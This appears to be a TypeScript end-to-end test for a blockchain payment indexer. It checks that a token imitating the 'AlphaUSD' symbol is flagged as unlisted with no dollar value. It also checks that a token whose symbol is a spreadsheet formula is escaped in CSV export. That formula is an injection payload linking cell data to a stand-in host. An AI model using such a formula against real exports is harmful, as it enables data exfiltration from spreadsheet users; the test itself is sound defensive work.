/**
 * Hostile tokens, end to end on SQLite and PostgreSQL: after the generated activity is collected, an ordinary
 * account creates "AlphaUSD" (currency USD) through the factory and moves 10^18 atomic units (10^12 tokens) with
 * an MPP memo, and another token takes a spreadsheet formula as its symbol. The real `paywatch collect --once`
 * collects both; the API (real buildApp) must keep `nominal` and `asset=AlphaUSD` exactly as before, mark the
 * imitation unlisted, and follow a changed token list from the next start without collecting again.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/api/app.js';
import { startAnvil, type AnvilNode } from '../../src/chain/anvil.js';
import { loadConfig } from '../../src/config.js';
import { generateActivity, type GroundTruth } from '../../src/demo/activity.js';
import { ANVIL_TOKENS, localTokenList, writeLocalTokenList } from '../../src/demo/token-list.js';
import { sumDecimals } from '../../src/domain/money.js';
import { TokenList } from '../../src/domain/token-list.js';
import { openStore, type Store } from '../../src/store/db.js';
import { createTestDb, DIALECTS, type TestDb } from '../helpers/db.js';
import { runCli } from './cli.js';
import { createHostileToken, type HostileToken } from './hostile-token.js';

const ALPHA_USD = '0x20c0000000000000000000000000000000000001';
const FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")';

let anvil: AnvilNode;
let truth: GroundTruth;
let dir: string;
let listPath: string;

beforeAll(async () => {
  anvil = await startAnvil();
  truth = await generateActivity(anvil.rpcUrl);
  dir = mkdtempSync(join(tmpdir(), 'paywatch-hostile-'));
  listPath = writeLocalTokenList(dir);
}, 180_000);

afterAll(async () => {
  await anvil?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe.each(DIALECTS)('hostile tokens on %s', (dialect) => {
  let db: TestDb;
  let imitation: HostileToken;
  let formula: HostileToken;
  const apps: { app: FastifyInstance; store: Store }[] = [];
  /** A real API over the store, following `list` (a fresh store handle: what a restarted `serve` does). */
  const api = async (list: TokenList) => {
    const store = await openStore(db.url, { tokenList: list });
    const app = await buildApp({ store, config: loadConfig({ db: db.url }, {}), components: new Map() }, { logger: false });
    apps.push({ app, store });
    return async (url: string) => {
      const r = await app.inject({ method: 'GET', url });
      return { status: r.statusCode, body: r.headers['content-type']?.toString().startsWith('application/json') ? r.json() : r.body };
    };
  };
  const collect = async () => {
    const r = await runCli(['collect', '--once', '--db', db.url, '--rpc', anvil.rpcUrl, '--from', '0', '--tokenlist', listPath]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  };
  let before: { metrics: Record<string, unknown>; alpha: string[] };

  beforeAll(async () => {
    db = await createTestDb(dialect);
    await collect();
    const get = await api(TokenList.read(listPath));
    before = {
      metrics: (await get('/api/metrics')).body,
      alpha: (await get('/api/transactions?asset=AlphaUSD&limit=100')).body.rows.map((r: { hash: string }) => r.hash),
    };
    // One run per node: the second dialect reuses the tokens the first created.
    imitation ??= await createHostileToken(anvil.rpcUrl, 'AlphaUSD', 10n ** 18n);
    formula ??= await createHostileToken(anvil.rpcUrl, FORMULA, 10n ** 6n);
    await collect();
  }, 180_000);

  afterAll(async () => {
    for (const { app, store } of apps) {
      await app.close();
      await store.close();
    }
    await db?.drop();
  });

  it('leaves nominal exactly as before the 10^12-token imitation transfer, and as the ground truth says', async () => {
    const get = await api(TokenList.read(listPath));
    const after = (await get('/api/metrics')).body;
    expect(before.metrics.nominal).toBe(sumDecimals(truth.transactions.map((t) => t.nominal)));
    expect(after.nominal).toBe(before.metrics.nominal);
    expect(after.total).toBeGreaterThan(before.metrics.total as number);
    expect(after.value_method).toMatch(/token list/);
  });

  it('serves the imitation as what it is: unlisted, no dollar value, MPP-tagged, with a forensics note', async () => {
    const get = await api(TokenList.read(listPath));
    const d = (await get(`/api/transactions/${imitation.transfer}`)).body;
    expect(d).toMatchObject({
      asset: 'AlphaUSD',
      asset_contract: imitation.address,
      asset_listed: false,
      amount: '1000000000000',
      nominal: null,
      protocol: 'mpp',
      category: 'payment',
    });
    expect(d.legs[0]).toMatchObject({ asset: 'AlphaUSD', asset_listed: false });
    expect(d.forensics).toContainEqual(
      expect.objectContaining({
        kind: 'imitated_symbol',
        asset_contract: imitation.address,
        imitates: { asset_contract: ALPHA_USD, symbol: 'AlphaUSD' },
      }),
    );
    const listed = (await get(`/api/transactions?asset=${ALPHA_USD}&limit=1`)).body.rows[0];
    expect(listed.asset_listed).toBe(true);
  });

  it('keeps asset=AlphaUSD and q=AlphaUSD to the listed contract; the imitation is found by its contract', async () => {
    const get = await api(TokenList.read(listPath));
    const rows = (await get('/api/transactions?asset=AlphaUSD&limit=100')).body.rows as { hash: string; asset_contract: string }[];
    expect(rows.map((r) => r.hash)).toEqual(before.alpha);
    expect(new Set(rows.map((r) => r.asset_contract))).toEqual(new Set([ALPHA_USD]));
    const q = (await get('/api/transactions?q=AlphaUSD&limit=100')).body.rows as { asset_contract: string }[];
    expect(q.every((r) => r.asset_contract === ALPHA_USD)).toBe(true);
    const byContract = (await get(`/api/transactions?asset=${imitation.address}`)).body.rows as { hash: string }[];
    expect(byContract.map((r) => r.hash)).toContain(imitation.transfer);
    const m = (await get('/api/metrics?asset=AlphaUSD')).body;
    expect(m.total).toBe(before.alpha.length);
  });

  it('exports the formula symbol as text a spreadsheet does not run', async () => {
    const get = await api(TokenList.read(listPath));
    const csv = (await get(`/api/export?asset=${formula.address}`)).body as string;
    const [rec] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rec.asset).toBe(`'${FORMULA}`);
    expect(rec.amount_unit).toBe(`'${FORMULA}`);
    expect(rec.asset_listed).toBe('false');
    expect(rec.nominal).toBe('');
  });

  it('follows a changed token list from the next start, without collecting again', async () => {
    const widened = localTokenList([...ANVIL_TOKENS, { address: imitation.address, symbol: 'AlphaUSD', name: 'AlphaUSD' }]);
    const get = await api(widened);
    const m = (await get('/api/metrics')).body;
    expect(m.nominal).toBe(sumDecimals([before.metrics.nominal as string, '1000000000000']));
    const d = (await get(`/api/transactions/${imitation.transfer}`)).body;
    expect(d).toMatchObject({ asset_listed: true, nominal: '1000000000000' });
    expect(d.forensics.some((f: { kind: string }) => f.kind === 'imitated_symbol')).toBe(false);
    const rows = (await get('/api/transactions?asset=AlphaUSD&limit=100')).body.rows as { asset_contract: string }[];
    expect(new Set(rows.map((r) => r.asset_contract))).toEqual(new Set([ALPHA_USD, imitation.address]));
  });
});
